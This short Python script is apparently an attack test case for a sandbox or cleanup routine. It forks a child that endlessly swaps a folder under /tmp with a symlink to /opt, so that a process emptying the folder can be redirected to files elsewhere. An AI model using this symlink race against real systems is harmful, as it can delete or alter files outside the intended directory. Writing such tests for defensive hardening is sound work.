# A folder that turns into a link and back while it is emptied.
# attacks: stdio
# cpu_s: 2
import os

if os.fork() == 0:
    os.mkdir("/tmp/real")
    os.symlink("/opt", "/tmp/link")
    while True:
        try:
            os.rename("/tmp/real", "/tmp/x")
            os.rename("/tmp/link", "/tmp/real")
            os.rename("/tmp/real", "/tmp/link")
            os.rename("/tmp/x", "/tmp/real")
        except OSError: pass
